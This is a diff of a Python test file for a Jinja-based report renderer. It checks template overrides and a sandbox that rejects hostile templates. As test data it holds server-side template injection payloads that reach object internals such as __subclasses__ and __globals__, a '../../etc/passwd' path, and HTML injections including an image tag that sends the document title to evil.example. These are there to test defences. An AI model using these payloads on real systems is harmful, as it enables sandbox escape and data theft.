@@ -40,13 +40,12 @@ def own(tmp_path: Path) -> Own:
     return with_templates
 
 
-LEAD = '{% extends "shipped/sections/plan.html.j2" %}{% block lead %}<p>Ours: {{ report.team }}.</p>{% endblock %}'
+LEAD = '{% extends "shipped/section.html.j2" %}{% block before %}<p>Ours: {{ document.title }}.</p>{% endblock %}'
 
 
-def test_one_block_can_be_replaced_and_all_else_stays(own: Own, report: Reports) -> None:
+def test_a_section_can_be_added_to_and_all_else_stays(own: Own, report: Reports) -> None:
     made = as_page(report("northside"), own(sections__plan_html=LEAD))
     assert "<p>Ours: Northside Community Mental Health Team.</p>" in made
-    assert "The numbers give the order" not in made
     shipped = as_page(report("northside"), SHORT)
     assert made.partition('<section class="plan"')[0] == shipped.partition('<section class="plan"')[0]
     assert made.count("<tr>") == shipped.count("<tr>")
@@ -71,16 +70,16 @@ def test_every_format_is_made_apart_as_it_is_here(own: Own, report: Reports, tmp
     ("template", "line", "words"),
     [
         ("one\n{% if %}", 2, "Expected an expression"),
-        ("one\ntwo\n{{ report.nothing }}", 3, "has no attribute 'nothing'"),
+        ("one\ntwo\n{{ section.nothing }}", 3, "has no attribute 'nothing'"),
         ("{{ 1 + 'a' }}", 1, "unsupported operand"),
         ("\n{% include 'nowhere.html' %}", 2, 'there is no template "nowhere.html"'),
         ("{% extends '../../etc/passwd' %}", 1, "there is no template"),
-        ("{{ report.__class__.__mro__ }}", 1, "may not have"),
+        ("{{ document.__class__.__mro__ }}", 1, "may not have"),
         ("{{ ''.__class__.__base__.__subclasses__() }}", 1, "may not have"),
-        ("{{ report.team.format.__globals__ }}", 1, "may not have"),
-        ("{{ '{0.__class__}'.format(report) }}", 1, "may not have"),
+        ("{{ document.title.format.__globals__ }}", 1, "may not have"),
+        ("{{ '{0.__class__}'.format(document) }}", 1, "may not have"),
         ("{{ self.__init__.__globals__ }}", 1, "may not have"),
-        ("{% set _ = report.update({'team': 'x'}) %}", 1, "may not have"),
+        ("{% set _ = document.update({'title': 'x'}) %}", 1, "may not have"),
         ("{{ lipsum() }}", 1, "is undefined"),
         ("{{ range(1000000) }}", 1, "Range too big"),
         ("{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}", 1, "recursion"),
@@ -164,7 +163,7 @@ def test_a_link_leads_nothing_from_outside_into_a_report(report: Reports, tmp_pa
 ASKS = {
     "script": '<script src="https://evil.example/x.js"></script>',
     "inline": "<script>alert(1)</script>",
-    "picture": '<img alt="" src="https://evil.example/t.png?{{ report.team }}"/>',
+    "picture": '<img alt="" src="https://evil.example/t.png?{{ document.title }}"/>',
     "handler": '<p onclick="alert(1)">x</p>',
     "style": '<p style="background: url(https://evil.example/x)">x</p>',
     "sheet": "<style>@import url(https://evil.example/x.css);</style>",
@@ -219,8 +218,7 @@ def test_a_mistake_of_ours_in_there_is_a_bug_and_no_mistake_of_theirs(
     broken = tmp_path / "broken"
     broken.mkdir()
     (broken / "sitecustomize.py").write_text(
-        "import readiness.report.formats as formats\n"
-        "formats.RENDERERS[formats.Format.HTML] = lambda report, theme: 1 / 0\n",
+        "import readiness.report.formats as formats\nformats.write = lambda *_: 1 / 0\n",
         "utf-8",
     )
     monkeypatch.setenv("PYTHONPATH", f"{broken}{os.pathsep}{ROOT}")
